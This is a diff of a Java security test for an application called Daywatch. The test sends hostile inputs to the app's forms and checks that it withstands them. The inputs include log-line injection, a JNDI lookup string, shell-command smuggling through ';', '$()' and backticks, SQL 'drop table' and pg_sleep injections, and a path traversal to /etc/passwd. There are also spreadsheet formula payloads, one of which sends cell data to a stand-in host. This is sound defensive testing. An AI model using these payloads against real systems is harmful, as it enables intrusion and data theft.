@@ -21,31 +21,15 @@ import java.util.List;
 import java.util.Map;
 import java.util.Optional;
 import java.util.Set;
+import java.util.TreeMap;
 import java.util.TreeSet;
 import java.util.UUID;
 import java.util.regex.Pattern;
-import org.daywatch.Daywatch;
 import org.daywatch._story.AllTables;
 import org.daywatch._story.Explorer;
-import org.daywatch._story.FreshDatabase;
-import org.daywatch.platform.identity.Sessions;
-import org.junit.jupiter.api.BeforeAll;
-import org.junit.jupiter.api.MethodOrderer;
-import org.junit.jupiter.api.Order;
-import org.junit.jupiter.api.Test;
-import org.junit.jupiter.api.TestInstance;
-import org.junit.jupiter.api.TestMethodOrder;
-import org.junit.jupiter.api.io.TempDir;
 import org.slf4j.LoggerFactory;
-import org.springframework.beans.factory.annotation.Autowired;
-import org.springframework.beans.factory.annotation.Qualifier;
-import org.springframework.boot.test.context.SpringBootTest;
-import org.springframework.boot.test.web.server.LocalServerPort;
 import org.springframework.core.DefaultParameterNameDiscoverer;
 import org.springframework.core.MethodParameter;
-import org.springframework.core.env.Environment;
-import org.springframework.test.annotation.DirtiesContext;
-import org.springframework.test.context.ContextConfiguration;
 import org.springframework.web.bind.annotation.RequestMethod;
 import org.springframework.web.bind.annotation.RequestParam;
 import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;
@@ -54,20 +38,14 @@ import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandl
  * Words that mean something to whoever reads them next: to a log, a shell, a spreadsheet, or to a handler that takes
  * more fields than its form has. Addresses, lists and forms are taken from the application and its pages: a new one is
  * tried without anybody adding it here.
- *
- * <p>A-32, A-39, A-40 of docs/security.
  */
-@SpringBootTest(classes = Daywatch.class, webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
-        properties = {"daywatch.demo=true", "daywatch.database.durable=false", "daywatch.timers=false"})
-@ContextConfiguration(initializers = FreshDatabase.class)
-@DirtiesContext
-@TestInstance(TestInstance.Lifecycle.PER_CLASS)
-@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
-class HostileWordsIT {
+final class HostileWords {
 
     /** In the long form every field of every address is asked each word, else three of them in their turn. */
     private static final boolean LONG = Boolean.getBoolean("daywatch.long");
     private static final int IN_TURN = 3;
+    /** The web server reads no more fields than a thousand. */
+    private static final int AT_ONCE = 800;
     private static final String STREAM = "/live"; // has no end
     private static final String ANYTHING = "[^/]+";
     private static final Pattern NUMBER = Pattern.compile("-?[0-9]+([.,][0-9]+)?");
@@ -76,18 +54,15 @@ class HostileWordsIT {
             "=HYPERLINK(\"https://elsewhere.example/?\"&A1)", "=cmd|' /C calc'!A0", "\"=1+1", "\n=1+1", "＝1+1",
             "-2+3+cmd|' /C calc'!D2", "%00=1+1");
 
-    @TempDir Path folder;
-    @Autowired Sessions sessions;
-    @Autowired Environment environment;
-    @Autowired @Qualifier("requestMappingHandlerMapping") RequestMappingHandlerMapping endpoints;
-    @LocalServerPort int port;
-    private List<Explorer> people = List.of();
+    private final List<Explorer> people;
+    private final RequestMappingHandlerMapping endpoints;
+    private final AllTables tables;
     private final ByteArrayOutputStream logged = new ByteArrayOutputStream();
 
-    @BeforeAll
-    void lookedAround() {
-        people = Explorer.all(port, sessions);
-        people.forEach(Explorer::look);
+    HostileWords(List<Explorer> people, RequestMappingHandlerMapping endpoints, AllTables tables) {
+        this.people = people;
+        this.endpoints = endpoints;
+        this.tables = tables;
         listen();
     }
 
@@ -106,15 +81,14 @@ class HostileWordsIT {
         ((Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME)).addAppender(appender);
     }
 
-    @Test
-    @Order(1)
-    void whatIsAskedBecomesNoLineOfTheLogNoHeaderAndNoCommand() throws SQLException {
+    /** @param folder empty; what a command made that ran would lie there */
+    void everyQuestion(Path folder) throws SQLException {
         var ran = folder.resolve("ran");
         var words = List.of("x\r\nINJECTED 1", "x%0d%0aINJECTED 2", "${jndi:ldap://elsewhere.example/INJECTED}",
                 "; touch " + ran, "$(touch " + ran + ")", "`touch " + ran + "`", "| touch " + ran,
                 "'; drop table directory.school; --", "1; select pg_sleep(9)", "../../../../etc/passwd",
                 "\u2028INJECTED 3");
-        var before = tables().column("select count(*) from directory.school").getFirst();
+        var before = tables.column("select count(*) from directory.school").getFirst();
         var wrong = new TreeSet<String>();
         int tried = 0;
         for (var address : addresses().entrySet()) {
@@ -144,52 +118,59 @@ class HostileWordsIT {
         logged.toString(StandardCharsets.UTF_8).lines().filter(line -> line.startsWith("INJECTED"))
                 .forEach(line -> wrong.add("a line of the log: " + line));
         if (Files.exists(ran)) wrong.add("a command ran");
-        assertThat(tables().column("select count(*) from directory.school").getFirst()).isEqualTo(before);
+        assertThat(tables.column("select count(*) from directory.school").getFirst()).isEqualTo(before);
         Offenders.none("Bind it, choose it from a list, or leave it out: what is asked was read as something else.",
                 wrong);
     }
 
-    @Test
-    @Order(2)
-    void aFieldThatNoFormHasReachesNoRow() throws SQLException {
+    void fieldsThatNoFormHas() throws SQLException {
         String id = UUID.randomUUID().toString();
         String word = "unasked" + id.substring(0, 8);
-        var columns = tables().column("""
-                select distinct c.column_name || ' ' || (c.data_type = 'uuid') from information_schema.columns c
-                where c.table_schema in ('platform', 'directory', 'staffing', 'planning', 'relationships', 'emergencies', 'training', 'prevention',
-                    'transparency', 'billing') and c.data_type in ('uuid', 'text')""");
+        var names = new ArrayList<>(called(id, word).entrySet());
         int tried = 0;
+        int taken = 0;
+        int turn = 0;
         var seen = new TreeSet<String>();
-        for (var person : people) {
+        for (var person : people)
             for (var form : person.forms()) {
-                if (form.address().startsWith("/sign-out")
-                        || !seen.add(form.address().replaceAll("[0-9a-f-]{36}", "{}")))
-                    continue;
-                var fields = new LinkedHashMap<>(form.fields());
-                fields.computeIfPresent("form", (name, old) -> UUID.randomUUID().toString());
+                if (form.address().startsWith("/sign-out") || !seen.add(Explorer.kind(form.address()))) continue;
                 var meant = asked(form.address());
-                for (var column : columns) {
-                    String name = column.split(" ")[0];
-                    for (var called : List.of(name, camel(name)))
-                        if (!meant.contains(called))
-                            fields.putIfAbsent(called, column.endsWith(" true") ? id : word);
+                for (int part = 0; part < (LONG ? names.size() : 1); part += AT_ONCE) {
+                    var fields = new LinkedHashMap<>(form.fields());
+                    fields.computeIfPresent("form", (name, old) -> UUID.randomUUID().toString());
+                    for (int i = 0; i < Math.min(AT_ONCE, names.size()); i++) {
+                        var name = names.get(turn++ % names.size());
+                        if (!meant.contains(name.getKey())) fields.putIfAbsent(name.getKey(), name.getValue());
+                    }
+                    int answer = person.post(form.address(), fields).statusCode();
+                    if (answer == 401) person.enter();
+                    if (answer < 400) taken++;
+                    tried++;
                 }
-                var answer = person.post(form.address(), fields);
-                if (answer.statusCode() == 401) person.enter();
-                tried++;
             }
-        }
+        assertThat(taken).as("forms that were taken, of %d", tried).isGreaterThan(30);
         assertThat(tried).as("forms").isGreaterThan(150);
         var found = new TreeSet<String>();
-        for (var table : tables().state().keySet())
-            tables().column("select distinct '" + table + "' from " + table + " t where position('" + word
-                    + "' in t::text) > 0 or position('" + id + "' in t::text) > 0").forEach(found::add);
+        for (var table : tables.names())
+            tables.column("select '" + table + "' from " + table + " t where t::text ~ '" + word + "|" + id
+                    + "' limit 1").forEach(found::add);
         Offenders.none("Read the fields the form has, and no other: a field that nobody asked for was stored.", found);
     }
 
-    @Test
-    @Order(3)
-    void noCellOfAListIsAFormula() throws Exception {
+    /** Every column that holds words or an id, as the database and as Java calls it, with what is sent by that name. */
+    private Map<String, String> called(String id, String word) throws SQLException {
+        var called = new TreeMap<String, String>();
+        for (var column : tables.column("""
+                select distinct c.column_name || ' ' || (c.data_type = 'uuid') from information_schema.columns c
+                where c.table_schema in ('platform', 'directory', 'staffing', 'planning', 'relationships', 'emergencies', 'training', 'prevention',
+                    'transparency', 'billing') and c.data_type in ('uuid', 'text')""")) {
+            String name = column.split(" ")[0];
+            for (var one : List.of(name, camel(name))) called.put(one, column.endsWith(" true") ? id : word);
+        }
+        return called;
+    }
+
+    void formulasInEveryList() throws Exception {
         int planted = plant();
         assertThat(planted).as("columns in which formulas stand").isGreaterThan(100);
         var formulas = new TreeSet<String>();
@@ -223,7 +204,7 @@ class HostileWordsIT {
     private int plant() throws SQLException {
         int planted = 0;
         int turn = 0;
-        for (var column : tables().column("""
+        for (var column : tables.column("""
                 select c.table_schema || '.' || c.table_name || ' ' || c.column_name from information_schema.columns c
                 join information_schema.tables t using (table_schema, table_name)
                 where t.table_type = 'BASE TABLE' and c.data_type = 'text' and c.is_generated = 'NEVER'
@@ -236,7 +217,7 @@ class HostileWordsIT {
             String name = column.split(" ")[1];
             String formula = FORMULAS.get(turn++ % FORMULAS.size()).replace("'", "''");
             try {
-                if (tables().execute("update " + table + " set \"" + name + "\" = '" + formula + "' || \"" + name
+                if (tables.execute("update " + table + " set \"" + name + "\" = '" + formula + "' || \"" + name
                         + "\" where \"" + name + "\" ~ '[a-z]{3}' and \"" + name + "\" ~ '[ A-Z]'"
                         + " and \"" + name + "\" !~ '^([A-Za-z_]+/|[{\\[<]|https?:)'") > 0)
                     planted++;
@@ -299,9 +280,5 @@ class HostileWordsIT {
             if (!parts.get(i).isEmpty())
                 parts.set(i, Character.toUpperCase(parts.get(i).charAt(0)) + parts.get(i).substring(1));
         return String.join("", parts);
-    }
-
-    private AllTables tables() {
-        return new AllTables(Path.of(environment.getRequiredProperty("daywatch.database.directory")));
     }
 }
